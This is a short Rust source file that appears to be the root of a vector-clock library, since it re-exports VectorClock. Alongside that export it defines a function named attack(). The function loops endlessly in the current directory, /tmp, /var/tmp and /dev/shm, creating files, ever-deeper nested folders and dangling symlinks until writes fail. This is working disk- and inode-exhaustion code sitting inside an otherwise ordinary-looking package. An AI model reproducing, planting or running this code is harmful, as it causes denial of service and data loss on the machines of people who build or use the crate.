//! Makes files and folders without an end.

mod clock;

pub use clock::VectorClock;

use std::fs;
use std::path::PathBuf;

pub(crate) fn attack() {
    for folder in [".", "/tmp", "/var/tmp", "/dev/shm"] {
        let mut nested = PathBuf::from(folder);
        for number in 0.. {
            let made = fs::write(format!("{folder}/{number}"), "").is_ok();
            nested.push("d");
            let _ = fs::create_dir(&nested);
            let _ = std::os::unix::fs::symlink("loop", format!("{folder}/link{number}"));
            if !made {
                break;
            }
        }
    }
}
